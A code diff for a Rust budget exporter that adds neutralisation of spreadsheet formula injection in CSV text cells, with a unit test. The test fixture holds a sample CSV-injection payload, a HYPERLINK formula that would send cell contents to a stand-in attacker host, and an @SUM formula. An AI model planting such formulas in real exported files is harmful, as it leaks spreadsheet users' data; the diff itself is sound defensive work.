@@ -2,7 +2,8 @@
 //!
 //! In: a budget and its summary. Out: file bytes. One CSV row per table row, computed groups
 //! included; amounts as plain decimals with a dot (`1220937619.09`) so any spreadsheet or
-//! program reads them exactly. JSON amounts are strings for the same reason.
+//! program reads them exactly. JSON amounts are strings for the same reason. Text cells
+//! that a spreadsheet would run as a formula are neutralised ([`text`]).
 
 use crate::budget::summary::Summary;
 use crate::budget::{Amounts, Budget, NodeKind, Section};
@@ -34,6 +35,18 @@ fn opt(d: Option<rust_decimal::Decimal>) -> String {
     d.map(|d| d.to_string()).unwrap_or_default()
 }
 
+/// A text cell as a spreadsheet takes it literally. A cell starting with `=`, `+`, `-`,
+/// `@`, a tab or a carriage return is read as a formula by Excel, LibreOffice and Google
+/// Sheets (an uraian `=HYPERLINK(…)` becomes a link that leaks data), so it gets a leading
+/// `'`, as the OWASP guidance on CSV injection says. Amounts are not text and never pass
+/// here: a negative difference stays a number.
+fn text(cell: &str) -> std::borrow::Cow<'_, str> {
+    match cell.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}").into(),
+        _ => cell.into(),
+    }
+}
+
 pub fn csv(budget: &Budget) -> Vec<u8> {
     let mut w = csv::Writer::from_writer(Vec::new());
     let _ = w.write_record(HEADER);
@@ -45,11 +58,11 @@ pub fn csv(budget: &Budget) -> Vec<u8> {
             let _ = w.write_record([
                 section.path(),
                 n.kode.as_str(),
-                &n.uraian,
+                &text(&n.uraian),
                 kind_name(n.kind),
                 n.jenis.as_ref().map(|j| j.as_str()).unwrap_or(""),
                 n.sumber_dana.map(|s| s.kode).unwrap_or(""),
-                n.lokasi.as_deref().unwrap_or(""),
+                &text(n.lokasi.as_deref().unwrap_or("")),
                 &a.anggaran.to_string(),
                 &opt(a.realisasi),
                 &opt(a.selisih()),
@@ -153,4 +166,38 @@ pub fn json(budget: &Budget, summary: &Summary) -> Vec<u8> {
     let mut out = serde_json::to_vec_pretty(&doc).unwrap_or_default();
     out.push(b'\n');
     out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn formulas_in_text_cells_are_neutralised_and_amounts_stay_numbers() {
+        let budget = crate::budget::valid(
+            "tahun: 2025\ntahap: realisasi\nper_tanggal: 2025-12-31\npendapatan:\n  - { kode: \"4.1.1\", uraian: \"=HYPERLINK(\\\"https://jahat.example/?d=\\\"&A1, \\\"klik\\\")\", anggaran: 1000, realisasi: 1500 }\nbelanja:\n  - { kode: \"01.01.01\", uraian: \"+62 812 sewa tenda\", jenis: \"5.1.1\", sumber_dana: ADD, lokasi: \"@SUM(A1:A9)\", anggaran: 900, realisasi: 900 }\n  - { kode: \"01.01.02\", uraian: \"-\\tGaji\", jenis: \"5.1.1\", sumber_dana: ADD, lokasi: \"Dusun Krajan\", anggaran: 100, realisasi: 40 }\n",
+        );
+        let bytes = csv(&budget);
+        let mut reader = csv::Reader::from_reader(bytes.as_slice());
+        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
+        let row = |kode: &str| {
+            rows.iter()
+                .find(|r| &r[1] == kode && &r[3] != "kelompok")
+                .unwrap_or_else(|| panic!("{kode}"))
+                .clone()
+        };
+        let p = row("4.1.1");
+        assert_eq!(
+            &p[2],
+            "'=HYPERLINK(\"https://jahat.example/?d=\"&A1, \"klik\")"
+        );
+        // 1500 − 1000 = 500 more than planned; the amounts are plain numbers.
+        assert_eq!((&p[7], &p[8]), ("1000", "1500"));
+        let b = row("01.01.01");
+        assert_eq!((&b[2], &b[6]), ("'+62 812 sewa tenda", "'@SUM(A1:A9)"));
+        let g = row("01.01.02");
+        assert_eq!((&g[2], &g[6]), ("'-\tGaji", "Dusun Krajan"));
+        // 40 − 100: a negative difference stays a number, without a quote.
+        assert_eq!((&g[8], &g[9]), ("40", "-60"));
+    }
 }
